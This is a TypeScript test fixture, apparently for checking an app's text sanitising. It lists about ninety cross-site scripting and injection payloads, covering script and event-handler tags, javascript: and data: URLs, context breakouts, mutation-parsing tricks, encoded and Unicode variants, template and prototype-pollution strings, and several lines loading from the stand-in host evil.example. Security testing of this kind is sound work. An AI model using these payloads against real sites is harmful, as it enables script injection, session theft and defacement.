import { cleanText } from '../../app/domain/text'

/** What `window` would carry, had any of the payloads run. */
export const MARKER = 'pwned'
const RUN = `${MARKER}=1`

/** Texts that become code where a page takes them for markup, an address, a style or a template. */
export const payloads = [
  // Elements that run
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//evil.example></script>`,
  `<script\u00a0>${RUN}</script>`,
  `<script/x>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<iframe src="javascript:${RUN}">`,
  `<iframe srcdoc="<script>${RUN}</script>">`,
  `<a href="javascript:${RUN}">click</a>`,
  `<form action="javascript:${RUN}"><button>`,
  `<button formaction=javascript:${RUN}>x`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content=0;//evil.example>`,
  `<link rel=stylesheet href=//evil.example>`,
  `<div style="background:url(//evil.example)">`,
  `<style>*{display:none}</style>`,
  `<style>@import '//evil.example';</style>`,
  // Ways out of where a text stands
  `</script><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</noscript><img src=x onerror=${RUN}>`,
  `</option></select><img src=x onerror=${RUN}>`,
  `</template><img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" autofocus onfocus=${RUN} x="`,
  `' onmouseover='${RUN}`,
  `" style="position:fixed;inset:0" x="`,
  `\`-${RUN}-\``,
  `";${RUN};//`,
  `';${RUN};//`,
  `\\";${RUN};//`,
  `\u2028${RUN};//\u2029x`,
  `a\u2028b\u2029c`,
  `<!--<script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  // Parsed once more, and differently
  `<math><mi><style><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<template><script>${RUN}</script></template>`,
  `<table><td><img src=x onerror=${RUN}>`,
  // Already encoded
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `&quot; onfocus=${RUN} &quot;`,
  `&amp;lt;b&amp;gt;`,
  // Addresses
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `javascript://%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `//evil.example/%2e%2e`,
  // Templates and names
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{7*7}{7*7}[[7*7]]`,
  `__proto__`,
  `constructor`,
  `{"__proto__":{"${MARKER}":1}}`,
  `[object Object]`,
  // Tricks of Unicode
  `\u202e<script>${RUN}</script>\u202c`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<\u200bscript>${RUN}</script>`,
  `\u02bascript\u02ba \u2039img src=x onerror=${RUN}\u203a`,
  `<ſcript>${RUN}</ſcript>`,
  `\ufffe<b>x</b>`,
  `<b onclick=${RUN}>👩‍👩‍👧</b>`,
]

/** A payload as a field between `min` and `max` characters keeps it. */
export function fit(payload: string, { min = 1, max }: { min?: number; max: number }): string {
  const cut = [...cleanText(payload)].slice(0, max).join('').trim()
  return [...cut].length < min + 5 ? cut.padEnd(min + 5, '.') : cut
}

/** The payloads as few texts of at most `max` characters, several in each. */
export function pack(max: number): string[] {
  const packed = ['']
  for (const payload of payloads.map(cleanText)) {
    const last = `${packed.at(-1)}\n${payload}`.trim()
    if ([...last].length <= max) packed[packed.length - 1] = last
    else packed.push(payload)
  }
  return packed
}
